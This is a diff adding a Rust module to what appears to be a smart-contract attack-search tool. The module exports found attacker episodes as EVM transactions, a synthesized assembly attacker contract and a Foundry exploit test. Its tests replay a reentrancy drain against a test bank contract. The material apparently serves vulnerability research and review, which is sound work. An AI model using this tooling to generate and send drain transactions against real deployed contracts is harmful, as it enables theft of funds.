@@ -0,0 +1,679 @@
+//! Export of an episode of the attacker as plain transactions.
+//!
+//! The attacker account gets a synthesized contract that replays the recorded answers: every call
+//! into it bumps a counter, and the counter selects the step to run. The counter lives in
+//! transient storage during a transaction, so a step fits in the 2300 gas stipend of `transfer`,
+//! and in slot 0 between transactions. The transaction of the victim, if the episode starts with
+//! one, comes first, then an operator account sends one transaction into the contract per
+//! transaction of the episode. Defender checks are not part of the export.
+//!
+//! The transactions of the episode come from the attacker account, which cannot send them on a
+//! normal EVM since it holds code (EIP-3607), so `tx.origin` differs, and the gas the defender
+//! forwards may not cover the recorded backcalls. [`Exploit::new`] replays the episode in the game
+//! and the transactions on the pre state, and rejects episodes whose end states differ.
+
+use crate::env::NoChecks;
+use crate::episode::{Episode, Victim};
+use crate::mcts::{Action, Call};
+use crate::oracle::Flag;
+use revm::primitives::{
+    create_address, hex, AccountInfo, Bytecode, Bytes, SpecId, TransactTo, TxEnv, B160, U256,
+};
+use revm::{Database, InMemoryDB};
+use std::collections::BTreeMap;
+use std::fmt::{self, Write};
+
+/// Sender of the transactions into the attacker contract.
+pub const OPERATOR: B160 = B160([
+    0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
+    0x00, 0x0e, 0x4f, 0x10,
+]);
+
+/// Gas limit of the exported transactions.
+const TX_GAS_LIMIT: u64 = 30_000_000;
+
+/// What the attacker contract does when called with a given counter value.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Step {
+    /// Call into the defender.
+    pub call: Option<Call>,
+    /// Revert once done, otherwise stop.
+    pub revert: bool,
+}
+
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum ExportError {
+    /// The episode ends inside a call into the attacker, or starts a transaction inside one.
+    Unbalanced { action: usize },
+    /// A reverted call into the attacker rolls its counter back, and a later call that sees the
+    /// same counter must act differently.
+    AmbiguousRevert { action: usize },
+    /// The game rejects the actions.
+    Game(String),
+    /// The end state of the transactions differs from the one of the episode at `account`, e.g.
+    /// as the defender reads `tx.origin`.
+    Diverged { account: B160 },
+}
+
+impl fmt::Display for ExportError {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            Self::Unbalanced { action } => {
+                write!(f, "unbalanced calls into the attacker at action {action}")
+            }
+            Self::AmbiguousRevert { action } => {
+                write!(
+                    f,
+                    "action {action} cannot be told apart from a reverted call into the attacker"
+                )
+            }
+            Self::Game(e) => write!(f, "the game rejects the actions: {e}"),
+            Self::Diverged { account } => {
+                write!(f, "the transactions end in another state at {account:?}")
+            }
+        }
+    }
+}
+
+/// An episode as accounts and transactions for a normal EVM.
+#[derive(Debug, Clone)]
+pub struct Exploit {
+    pub spec_id: SpecId,
+    pub attacker: B160,
+    pub defender: B160,
+    /// Sender of the first transaction into the attacker, see [`Episode::victim`].
+    pub victim: Option<Victim>,
+    pub deployment_code: Bytes,
+    /// Steps of the attacker contract, by counter value.
+    pub steps: BTreeMap<u64, Step>,
+    /// Runtime code installed at the attacker account.
+    pub attacker_code: Bytes,
+    /// Accounts the transactions start from.
+    pub pre_state: Vec<(B160, AccountInfo)>,
+    /// Deployment of the defender, then one transaction per transaction of the episode.
+    pub transactions: Vec<TxEnv>,
+    /// Violations an oracle flagged in the episode, listed at the top of the Foundry test.
+    pub flags: Vec<Flag>,
+}
+
+impl Exploit {
+    /// Exports the `actions` of an episode of a game created with the same deployment code,
+    /// attacker, attacker balance and victim, see [`Episode::game`].
+    pub fn new(
+        deployment_code: Bytes,
+        attacker: B160,
+        attacker_balance: U256,
+        victim: Option<Victim>,
+        actions: &[Action],
+    ) -> Result<Self, ExportError> {
+        // the game deploys from the zero account with nonce 1
+        let defender = create_address(B160::zero(), 1);
+        let steps = steps(actions)?;
+        let attacker_code = assemble(defender, &steps);
+        let mut pre_state = vec![
+            (
+                B160::zero(),
+                AccountInfo::new(U256::MAX, 1, Bytecode::new()),
+            ),
+            (
+                attacker,
+                AccountInfo::new(
+                    attacker_balance,
+                    1,
+                    Bytecode::new_raw(attacker_code.clone()),
+                ),
+            ),
+            (OPERATOR, AccountInfo::default()),
+        ];
+        pre_state.extend(
+            victim
+                .iter()
+                .map(|victim| (victim.account, AccountInfo::default())),
+        );
+        let mut transactions = vec![TxEnv {
+            caller: B160::zero(),
+            gas_limit: TX_GAS_LIMIT,
+            transact_to: TransactTo::create(),
+            value: U256::MAX / U256::from(2),
+            data: deployment_code.clone(),
+            ..Default::default()
+        }];
+        transactions.extend(victim.iter().map(|Victim { account, call }| TxEnv {
+            caller: *account,
+            gas_limit: TX_GAS_LIMIT,
+            transact_to: TransactTo::Call(attacker),
+            value: call.value,
+            data: call.data.clone(),
+            ..Default::default()
+        }));
+        let attacker_transactions = actions
+            .iter()
+            .filter(|action| matches!(action, Action::Transact(_)))
+            .count();
+        transactions.extend((0..attacker_transactions).map(|_| TxEnv {
+            caller: OPERATOR,
+            gas_limit: TX_GAS_LIMIT,
+            transact_to: TransactTo::Call(attacker),
+            ..Default::default()
+        }));
+        let exploit = Self {
+            spec_id: SpecId::CANCUN,
+            attacker,
+            defender,
+            victim,
+            deployment_code,
+            steps,
+            attacker_code,
+            pre_state,
+            transactions,
+            flags: vec![],
+        };
+        exploit.compare(attacker_balance, actions)?;
+        Ok(exploit)
+    }
+
+    /// Compares the end state of the transactions with the one of the episode, for the accounts
+    /// of the attacker, the defender and the victim.
+    fn compare(&self, attacker_balance: U256, actions: &[Action]) -> Result<(), ExportError> {
+        let episode = Episode {
+            deployment_code: self.deployment_code.clone(),
+            abi: Default::default(),
+            attacker: self.attacker,
+            attacker_balance,
+            victim: self.victim.clone(),
+            moves: vec![],
+        }
+        .recorded(actions, NoChecks)
+        .map_err(ExportError::Game)?;
+        let mut env = Default::default();
+        let mut db = InMemoryDB::default();
+        let mut game = episode.game(&mut env, &mut db);
+        episode.replay(&mut game).map_err(ExportError::Game)?;
+        let mut end = self.replay();
+        let accounts = [self.attacker, self.defender]
+            .into_iter()
+            .chain(self.victim.as_ref().map(|victim| victim.account));
+        let nonzero = |slots: BTreeMap<U256, U256>| {
+            slots
+                .into_iter()
+                .filter(|(_, value)| *value != U256::ZERO)
+                .collect::<BTreeMap<_, _>>()
+        };
+        for account in accounts {
+            let balance = end.basic(account).unwrap().unwrap_or_default().balance;
+            let end_slots = end
+                .accounts
+                .get(&account)
+                .map(|account| account.storage.iter().map(|(k, v)| (*k, *v)).collect())
+                .unwrap_or_default();
+            // the counter of the attacker contract is not part of the episode
+            if balance != game.balance(account)
+                || (account != self.attacker
+                    && nonzero(end_slots) != nonzero(game.storage_slots(account)))
+            {
+                return Err(ExportError::Diverged { account });
+            }
+        }
+        Ok(())
+    }
+
+    /// Lists `flags`, e.g. the ones of a [`SearchResult`](crate::mcts::SearchResult), in the
+    /// Foundry test.
+    pub fn with_flags(mut self, flags: Vec<Flag>) -> Self {
+        self.flags = flags;
+        self
+    }
+
+    /// Database holding the pre state.
+    pub fn pre_state_db(&self) -> InMemoryDB {
+        let mut db = InMemoryDB::default();
+        for (address, info) in &self.pre_state {
+            db.insert_account_info(*address, info.clone());
+        }
+        db
+    }
+
+    /// Runs the transactions with `EVM::transact_commit` and returns the end state.
+    pub fn replay(&self) -> InMemoryDB {
+        let mut evm = revm::new();
+        evm.env.cfg.spec_id = self.spec_id;
+        evm.env.cfg.run_nested_frames = true;
+        evm.database(self.pre_state_db());
+        for tx in &self.transactions {
+            evm.env.tx = tx.clone();
+            evm.transact_commit()
+                .expect("exported transactions are valid");
+        }
+        evm.take_db()
+    }
+
+    /// Foundry test replaying the exploit, for review.
+    pub fn to_foundry_test(&self) -> String {
+        let mut steps = String::new();
+        for (counter, step) in &self.steps {
+            let _ = writeln!(steps, "        if (current == {counter}) {{");
+            if let Some(call) = &step.call {
+                let _ = writeln!(
+                    steps,
+                    "            DEFENDER.call{{value: {}, gas: {}}}(hex\"{}\");",
+                    call.value,
+                    call.gas_limit,
+                    hex::encode(&call.data)
+                );
+            }
+            let _ = writeln!(
+                steps,
+                "            {}",
+                if step.revert { "revert();" } else { "return;" }
+            );
+            let _ = writeln!(steps, "        }}");
+        }
+        let mut transactions = String::new();
+        for tx in &self.transactions[1..] {
+            let _ = writeln!(
+                transactions,
+                "        {{\n            vm.prank({0}, {0});\n            (bool ok, ) = ATTACKER.call{{value: {1}}}(hex\"{2}\");\n            require(ok);\n        }}",
+                checksum(tx.caller),
+                tx.value,
+                hex::encode(&tx.data)
+            );
+        }
+        let flags = if self.flags.is_empty() {
+            String::new()
+        } else {
+            let mut flags = String::from("// Flagged by the oracle:\n");
+            for flag in &self.flags {
+                let _ = writeln!(flags, "// - turn {}: {}", flag.turn, flag.violation);
+            }
+            flags + "\n"
+        };
+        format!(
+            r#"// SPDX-License-Identifier: UNLICENSED
+pragma solidity ^0.8.24;
+
+import "forge-std/Test.sol";
+
+{flags}/// Replays the recorded answers of the attacker, one step per call into it.
+contract Attacker {{
+    address constant DEFENDER = {defender};
+
+    receive() external payable {{
+        _step();
+    }}
+
+    fallback() external payable {{
+        _step();
+    }}
+
+    /// Counts calls in transient storage, so the stipend of `transfer` covers a step.
+    function _step() internal {{
+        bool top = msg.sender == tx.origin;
+        uint256 current;
+        assembly {{
+            current := tload(0)
+            if top {{
+                current := sload(0)
+            }}
+            tstore(0, add(current, 1))
+        }}
+        _run(current);
+        assembly {{
+            if top {{
+                sstore(0, tload(0))
+            }}
+        }}
+    }}
+
+    function _run(uint256 current) internal {{
+{steps}    }}
+}}
+
+contract ExploitTest is Test {{
+    address constant ATTACKER = {attacker};
+    address constant DEFENDER = {defender};
+
+    function setUp() public {{
+        bytes memory code = hex"{deployment_code}";
+        vm.deal(address(0), type(uint256).max);
+        vm.setNonce(address(0), 1);
+        vm.prank(address(0));
+        address defender;
+        uint256 value = type(uint256).max / 2;
+        assembly {{
+            defender := create(value, add(code, 0x20), mload(code))
+        }}
+        require(defender == DEFENDER, "unexpected defender address");
+        vm.etch(ATTACKER, address(new Attacker()).code);
+        vm.deal(ATTACKER, {attacker_balance});
+    }}
+
+    function testExploit() public {{
+        uint256 balance = ATTACKER.balance;
+{transactions}        assertGt(ATTACKER.balance, balance);
+    }}
+}}
+"#,
+            defender = checksum(self.defender),
+            attacker = checksum(self.attacker),
+            deployment_code = hex::encode(&self.deployment_code),
+            attacker_balance = self.pre_state[1].1.balance,
+        )
+    }
+}
+
+/// EIP-55 checksummed address, as solc requires for address literals.
+fn checksum(address: B160) -> String {
+    let lower = hex::encode(address.as_bytes());
+    let hash = revm::primitives::keccak256(lower.as_bytes());
+    let mut out = String::from("0x");
+    for (index, c) in lower.chars().enumerate() {
+        let nibble = (hash.0[index / 2] >> if index % 2 == 0 { 4 } else { 0 }) & 0x0f;
+        out.push(if nibble >= 8 {
+            c.to_ascii_uppercase()
+        } else {
+            c
+        });
+    }
+    out
+}
+
+/// Follows the counter of the attacker contract along the actions, reverted calls into the
+/// attacker roll it back.
+fn steps(actions: &[Action]) -> Result<BTreeMap<u64, Step>, ExportError> {
+    let mut steps = BTreeMap::new();
+    let mut insert =
+        |counter: u64, step: Step, action: usize| match steps.insert(counter, step.clone()) {
+            Some(previous) if previous != step => Err(ExportError::AmbiguousRevert { action }),
+            _ => Ok(()),
+        };
+    let mut counter = 0;
+    let mut calls: Vec<(u64, Option<Call>)> = vec![];
+    for (index, action) in actions.iter().enumerate() {
+        match action {
+            Action::Transact(call) => {
+                if !calls.is_empty() {
+                    return Err(ExportError::Unbalanced { action: index });
+                }
+                insert(
+                    counter,
+                    Step {
+                        call: Some(call.clone()),
+                        revert: false,
+                    },
+                    index,
+                )?;
+                counter += 1;
+            }
+            Action::Backcall(call) => {
+                calls.push((counter, Some(call.clone())));
+                counter += 1;
+            }
+            Action::Return => {
+                calls.push((counter, None));
+                counter += 1;
+            }
+            Action::Pass(pass) => {
+                let Some((entry, call)) = calls.pop() else {
+                    return Err(ExportError::Unbalanced { action: index });
+                };
+                insert(
+                    entry,
+                    Step {
+                        call,
+                        revert: !pass,
+                    },
+                    index,
+                )?;
+                if !pass {
+                    counter = entry;
+                }
+            }
+            Action::Stop => break,
+        }
+    }
+    if !calls.is_empty() {
+        return Err(ExportError::Unbalanced {
+            action: actions.len(),
+        });
+    }
+    Ok(steps)
+}
+
+/// Runtime code dispatching on the call counter, calldata of the calls follows the code.
+fn assemble(defender: B160, steps: &BTreeMap<u64, Step>) -> Bytes {
+    // transactions load the counter from slot 0 and store it back when they end, calls within a
+    // transaction only touch transient storage so they fit in the stipend of `transfer`
+    let mut code = String::from(
+        "ORIGIN CALLER EQ PUSH @top JUMPI
+        PUSH1 0 TLOAD PUSH @count JUMP
+        top: JUMPDEST PUSH1 0 SLOAD
+        count: JUMPDEST DUP1 PUSH1 1 ADD PUSH1 0 TSTORE\n",
+    );
+    for counter in steps.keys() {
+        let _ = writeln!(code, "DUP1 PUSH8 {counter} EQ PUSH @step{counter} JUMPI");
+    }
+    code.push_str(
+        "done: JUMPDEST ORIGIN CALLER EQ ISZERO PUSH @stop JUMPI
+        PUSH1 0 TLOAD PUSH1 0 SSTORE
+        stop: JUMPDEST STOP\n",
+    );
+    let mut data = String::new();
+    for (counter, step) in steps {
+        let _ = writeln!(code, "step{counter}: JUMPDEST");
+        if let Some(call) = &step.call {
+            let len = call.data.len();
+            if len > 0 {
+                let _ = writeln!(data, "data{counter}: 0x{}", hex::encode(&call.data));
+                let _ = writeln!(code, "PUSH4 {len} PUSH @data{counter} PUSH1 0 CODECOPY");
+            }
+            let _ = writeln!(
+                code,
+                "PUSH1 0 PUSH1 0 PUSH4 {len} PUSH1 0 PUSH32 {:#x} PUSH20 0x{} PUSH8 {} CALL POP",
+                call.value,
+                hex::encode(defender.as_bytes()),
+                call.gas_limit
+            );
+        }
+        code.push_str(if step.revert {
+            "PUSH1 0 DUP1 REVERT\n"
+        } else {
+            "PUSH @done JUMP\n"
+        });
+    }
+    code.push_str(&data);
+    revm::interpreter::asm::assemble(&code).expect("the attacker contract assembles")
+}
+
+#[cfg(test)]
+mod test {
+    use super::*;
+    use crate::env::{silly_bank_abi, GameEnvironment, NoChecks, SILLY_BANK};
+    use crate::mcts::{Mcts, MctsConfig, Prior};
+    use crate::oracle::Violation;
+    use revm::primitives::Env;
+    use revm::primitives::B256;
+    use revm::Database;
+
+    #[test]
+    fn replays_reentrancy_with_plain_transactions() {
+        let abi = silly_bank_abi();
+        let attacker = B160::from_low_u64_be(0xa77ac);
+        let balance = U256::from(1000);
+        let call = |function: &str, value: u64| Call {
+            data: abi.encode(function, ()).unwrap().0,
+            value: U256::from(value),
+            gas_limit: 1_000_000,
+        };
+        let actions = [
+            Action::Transact(call("deposit", 500)),
+            Action::Transact(call("withdraw", 0)),
+            Action::Backcall(call("withdraw", 0)),
+            Action::Return,
+            Action::Pass(true),
+            Action::Pass(true),
+        ];
+
+        let mut env = Env::default();
+        let mut db = InMemoryDB::default();
+        let mut game = GameEnvironment::new(
+            &mut env,
+            &mut db,
+            attacker,
+            balance,
+            SILLY_BANK.to_vec().into(),
+            abi.clone(),
+        );
+        Mcts::new(MctsConfig::default(), vec![], NoChecks, Prior::Uniform)
+            .replay(&mut game, &actions);
+        assert!(matches!(
+            game.stuck_state(),
+            crate::env::StuckState::MoveAttacker
+        ));
+        let game_balance = game.balance(attacker);
+        assert_eq!(game_balance, U256::from(1500));
+
+        let exploit = Exploit::new(
+            SILLY_BANK.to_vec().into(),
+            attacker,
+            balance,
+            None,
+            &actions,
+        )
+        .unwrap();
+        assert_eq!(exploit.defender, game.defender_account);
+        let mut end = exploit.replay();
+        assert_eq!(end.basic(attacker).unwrap().unwrap().balance, game_balance);
+        let slot = U256::from_be_bytes(
+            revm::primitives::keccak256(&[B256::from(attacker).0, [0; 32]].concat()).0,
+        );
+        assert_eq!(
+            end.storage(exploit.defender, slot).unwrap(),
+            game.storage(exploit.defender, slot)
+        );
+
+        let test = exploit.to_foundry_test();
+        assert!(test.contains("if (current == 2)"));
+        assert!(test.contains(&checksum(attacker)));
+        assert!(!test.contains("oracle"));
+        let outflow = Flag {
+            turn: 5,
+            violation: Violation::Outflow {
+                amount: U256::from(500),
+            },
+        };
+        let test = exploit.with_flags(vec![outflow]).to_foundry_test();
+        assert!(test.contains("// - turn 5: the attacker took out 500\n"));
+    }
+
+    #[test]
+    fn replays_backcalls_under_the_transfer_stipend() {
+        // runtime: pays 1 wei to the caller with the stipend only, then stores the success flag
+        let runtime = "60008080806001336000f160005500";
+        let deployment = format!("60{:02x}80600b6000396000f3{runtime}", runtime.len() / 2);
+        let deployment: Bytes = hex::decode(deployment).unwrap().into();
+        let attacker = B160::from_low_u64_be(0xa77ac);
+        let balance = U256::from(1000);
+        let actions = [
+            Action::Transact(Call {
+                data: Bytes::new(),
+                value: U256::ZERO,
+                gas_limit: 1_000_000,
+            }),
+            Action::Return,
+            Action::Pass(true),
+        ];
+
+        let mut env = Env::default();
+        let mut db = InMemoryDB::default();
+        let mut game = GameEnvironment::new(
+            &mut env,
+            &mut db,
+            attacker,
+            balance,
+            deployment.clone(),
+            ethers::abi::Abi::default().into(),
+        );
+        Mcts::new(MctsConfig::default(), vec![], NoChecks, Prior::Uniform)
+            .replay(&mut game, &actions);
+        assert_eq!(game.balance(attacker), U256::from(1001));
+
+        let exploit = Exploit::new(deployment, attacker, balance, None, &actions).unwrap();
+        let mut end = exploit.replay();
+        assert_eq!(
+            end.basic(attacker).unwrap().unwrap().balance,
+            U256::from(1001)
+        );
+        assert_eq!(
+            end.storage(exploit.defender, U256::ZERO).unwrap(),
+            U256::from(1)
+        );
+        assert_eq!(end.storage(attacker, U256::ZERO).unwrap(), U256::from(2));
+    }
+
+    #[test]
+    fn exports_victims_and_rejects_other_origins() {
+        // runtime: stores tx.origin in slot 0
+        let deployment: Bytes = hex::decode("6005600c60003960056000f33260005500")
+            .unwrap()
+            .into();
+        let attacker = B160::from_low_u64_be(0xa77ac);
+        let victim = Victim {
+            account: B160::from_low_u64_be(0xb0b),
+            call: Call {
+                data: Bytes::new(),
+                value: U256::ZERO,
+                gas_limit: 1_000_000,
+            },
+        };
+        let call = Call {
+            data: Bytes::new(),
+            value: U256::ZERO,
+            gas_limit: 100_000,
+        };
+        let actions = [Action::Backcall(call.clone()), Action::Pass(true)];
+
+        let exploit = Exploit::new(
+            deployment.clone(),
+            attacker,
+            U256::ZERO,
+            Some(victim.clone()),
+            &actions,
+        )
+        .unwrap();
+        assert_eq!(exploit.transactions[1].caller, victim.account);
+        let mut end = exploit.replay();
+        assert_eq!(
+            end.storage(exploit.defender, U256::ZERO).unwrap(),
+            U256::from_be_bytes(B256::from(victim.account).0)
+        );
+        assert!(exploit
+            .to_foundry_test()
+            .contains(&format!("vm.prank({0}, {0});", checksum(victim.account))));
+
+        assert_eq!(
+            Exploit::new(
+                deployment,
+                attacker,
+                U256::ZERO,
+                None,
+                &[Action::Transact(call)]
+            )
+            .unwrap_err(),
+            ExportError::Diverged {
+                account: exploit.defender
+            }
+        );
+    }
+
+    #[test]
+    fn rejects_unbalanced_episodes() {
+        assert_eq!(
+            steps(&[Action::Return]),
+            Err(ExportError::Unbalanced { action: 1 })
+        );
+        assert_eq!(
+            steps(&[Action::Pass(true)]),
+            Err(ExportError::Unbalanced { action: 0 })
+        );
+    }
+}